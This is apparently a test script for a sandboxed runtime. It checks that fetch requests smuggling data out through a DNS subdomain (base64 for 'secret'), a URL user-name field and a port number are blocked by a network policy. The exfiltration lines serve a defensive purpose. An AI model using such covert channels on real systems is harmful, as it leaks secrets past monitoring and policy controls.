# outcome: ok
# with: door
# prints: held: data in a name: JsException
# prints: held: data in a user name: JsException
# prints: held: data in a port: JsException
# DNS alone would tell: a name that is looked up before the policy speaks.
await door("data in a name", lambda: js.fetch("http://c2VjcmV0.example.org/", obj(mode="no-cors")))
await door("data in a user name", lambda: js.fetch("http://{server}@example.org/leak", obj(mode="no-cors")))
await door("data in a port", lambda: js.fetch("http://example.org:9/", obj(mode="no-cors")))
